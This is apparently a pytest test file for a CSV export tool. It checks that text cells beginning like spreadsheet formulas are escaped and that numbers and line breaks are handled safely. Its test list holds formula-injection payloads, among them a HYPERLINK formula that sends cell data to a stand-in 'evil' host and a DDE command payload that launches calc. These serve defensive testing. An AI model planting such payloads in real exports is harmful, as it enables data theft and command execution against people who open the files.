"""Test CSV for spreadsheets: no cell with a stranger's text is a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coordd.cli.history_csv import csv_blocks, harmless

SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
EVIL = [
    "=1+1",
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\tplain",
    "\r=1",
    "\n=1",
    "\nplain",
    " =1",
    "\u00a0=1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    "\x00=1",
    "\u202e=1",
    " \t\n =1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    "=",
]
PLAIN = ["builder-1", "a=b", "1", "", "'=1", "/src/app", "é", "#1", "x\t=1", "(-1)", "a\n=1"]


def rows(kind: str, records: list[dict[str, Any]], *, thinned: bool = False) -> list[dict[str, str]]:
    text = b"".join(csv_blocks(kind, records, thinned=thinned)).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", EVIL)
def test_a_text_that_begins_like_a_formula_is_made_text(text: str) -> None:
    assert harmless(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("text", EVIL)
@pytest.mark.parametrize(
    ("kind", "columns"),
    [
        ("system", ["timestamp", "host", "coord_mode", "cpu_percent", "agents.active"]),
        (
            "agent",
            ["timestamp", "host", "workspace", "agent_id", "status", "reason", "cause", "declared_status"],
        ),
        ("event", ["timestamp", "host", "kind", "subject", "message", "detail"]),
    ],
)
def test_in_every_column(kind: str, columns: list[str], text: str) -> None:
    record: dict[str, Any] = {name: text for name in columns if "." not in name}
    record["agents"] = {"active": text}
    (row,) = rows(kind, [record])
    assert {name: row[name] for name in columns} == dict.fromkeys(columns, "'" + text)


@pytest.mark.parametrize("text", EVIL)
def test_in_lists_and_in_thinned_records(text: str) -> None:
    (row,) = rows("agent", [{"sources": [text, "x"]}])
    assert row["sources"] == f"'{text} x"
    (row,) = rows("agent", [{"agent_id": text, "active_tasks": {"mean": text}}], thinned=True)
    assert (row["agent_id"], row["active_tasks.mean"]) == ("'" + text, "'" + text)
    (row,) = rows("event", [{"detail": {"=1": text}}])
    assert json.loads(row["detail"]) == {"=1": text}  # begins with a brace


@pytest.mark.parametrize("text", ["a\r=1", "a\n=1", "a\r\n=1", 'a"\r"=1', "a,\r=1"])
def test_a_line_break_in_a_text_begins_no_row_and_no_cell(text: str) -> None:
    """A spreadsheet ends a row at a bare CR: the text after it would become a cell of its own."""
    (raw,) = csv_blocks("event", [{"message": text}, {"message": "x"}], thinned=False)
    assert b'"' in raw.split(b"\n", 1)[1]
    assert [row["message"] for row in rows("event", [{"message": text}, {"message": "x"}])] == [text, "x"]
    assert raw.endswith(b"x,\n")


def test_numbers_that_are_numbers_stay_as_they_are() -> None:
    record = {"active_tasks": -3, "uptime": -1.5, "rss": 10**20, "cpu_percent": 0.0, "pid": None}
    (row,) = rows("agent", [record])
    assert [row[name] for name in record] == ["-3", "-1.5", str(10**20), "0.0", ""]


@pytest.mark.parametrize("number", [float("inf"), -float("inf"), float("nan")])
def test_endless_numbers_are_unknown(number: float) -> None:
    """``-inf`` begins like a formula, and is not a number in any spreadsheet."""
    (row,) = rows("agent", [{"uptime": number, "agent_id": "a"}])
    assert row["uptime"] == ""


@given(st.text(), st.text(max_size=3))
def test_no_text_at_all_begins_like_a_formula(text: str, before: str) -> None:
    for one in (text, before + text, *(sign + text for sign in SIGNS), *(f" {sign}{text}" for sign in SIGNS)):
        cell = harmless(one)
        assert cell in (one, "'" + one)
        assert not cell.startswith(tuple(SIGNS))
        assert not cell.strip().startswith(tuple(SIGNS))
